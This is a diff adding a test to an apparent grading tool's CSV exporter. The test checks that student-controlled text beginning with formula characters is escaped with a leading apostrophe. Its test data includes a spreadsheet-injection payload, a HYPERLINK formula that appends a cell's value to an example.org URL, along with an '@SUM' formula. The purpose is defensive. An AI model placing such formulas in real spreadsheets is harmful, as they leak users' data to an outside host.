@@ -66,3 +66,20 @@ def test_csv_exports(tmp_path):
     assert rows(tmp_path / "repairs.csv") == [
         {"student": "ann", "lab": "lab1", "cell": "q2", "action": "restored points (20 -> 3)"}
     ]
+
+
+def test_text_a_spreadsheet_would_run_as_a_formula_is_exported_as_text(tmp_path):
+    # a cell id and a reason chosen by the student's code; the numbers stay numbers
+    formula = '=HYPERLINK("https://example.org/?"&A1, "grade")'
+    lab = GradedLab(
+        "+ann",
+        "lab1",
+        [QuestionResult("+ann", "lab1", "q1", -1.0, 2.0, "failed", "@SUM(1+1)"), *ANN.results[:1]],
+        [Repair(formula, "removed grading metadata from an extra cell"), Repair("\tq", "x"), Repair("\rq", "-y")],
+        RunStatus.OK,
+    )
+    write_exports([lab], tmp_path)
+    (repair, tab, carriage), question = rows(tmp_path / "repairs.csv"), rows(tmp_path / "grades_by_question.csv")[0]
+    assert (repair["student"], repair["cell"]) == ("'+ann", "'" + formula)
+    assert (tab["cell"], carriage["cell"], carriage["action"]) == ("'\tq", "'\rq", "'-y")
+    assert (question["reason"], question["points"]) == ("'@SUM(1+1)", "-1.0")
